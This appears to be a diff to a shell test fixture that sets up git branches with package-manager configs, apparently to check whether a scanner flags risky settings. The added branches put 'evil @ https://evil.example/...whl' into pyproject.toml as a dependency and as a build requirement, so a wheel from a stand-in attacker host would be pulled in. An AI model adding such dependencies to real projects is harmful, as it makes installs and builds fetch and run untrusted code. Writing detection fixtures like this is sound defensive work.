@@ -6,6 +6,7 @@ other=$(printf 'b' | openssl dgst -sha512 -binary | base64 -w 0)
 printf 'packages:\n  - packages/*\nconfigDependencies:\n  hooks: 1.0.0+sha512-%s\n' "$digest" | put pnpm-workspace.yaml
 echo 'registry=https://registry.example.org/' | put .npmrc
 printf '[project]\nname = "shop"\nversion = "0.1.0"\ndependencies = []\n' | put pyproject.toml
+printf '[[index]]\nurl = "https://index.example.org/simple"\n' | put uv.toml
 printf 'source "https://gems.example.org"\n\ngem "left"\n' | put Gemfile
 printf -- '---\nBUNDLE_PATH: "vendor/bundle"\nBUNDLE_FROZEN: "true"\n' | put .bundle/config
 printf '[virtualenvs]\nin-project = true\n' | put poetry.toml
@@ -50,11 +51,18 @@ commit s28
 git checkout -q -b s29 main
 sed -i "s|$digest|$other|" pnpm-workspace.yaml
 commit s29
+for list in dependencies requires; do
+	git checkout -q -b "s-$list" main
+	sed -i 's|^dependencies.*||' pyproject.toml
+	[ $list = dependencies ] || printf '\n[build-system]\n' >>pyproject.toml
+	printf '%s = ["evil @ https://evil.example/evil-1.0-py3-none-any.whl"]\n' $list >>pyproject.toml
+	commit "s-$list"
+done
 # From here on nothing is found.
 git checkout -q -b honest main
 printf 'nodeLinker: hoisted\nscriptShell: bash\nnodeOptions: --max-old-space-size=4096\npreferFrozenLockfile: true\n' >>pnpm-workspace.yaml
 sed -i "s|1.0.0+sha512-$digest|1.1.0+sha512-$other|" pnpm-workspace.yaml
-printf '\n[tool.uv]\npackage = false\n' >>pyproject.toml
+printf '\n[tool.uv]\npackage = false\n\n[build-system]\nrequires = ["setuptools>=61", "own @ https://index.example.org/own-1.0-py3-none-any.whl"]\n' >>pyproject.toml
 printf '[certificates.main]\ncert = true\n[solver]\nmin-release-age = 3\n' >>poetry.toml
 printf 'BUNDLE_JOBS: "4"\nBUNDLE_SSL_VERIFY_MODE: "1"\nBUNDLE_GEMFILE: "Gemfile"\n' >>.bundle/config
 printf 'gem "right", source: "https://gems.example.org"\n' >>Gemfile
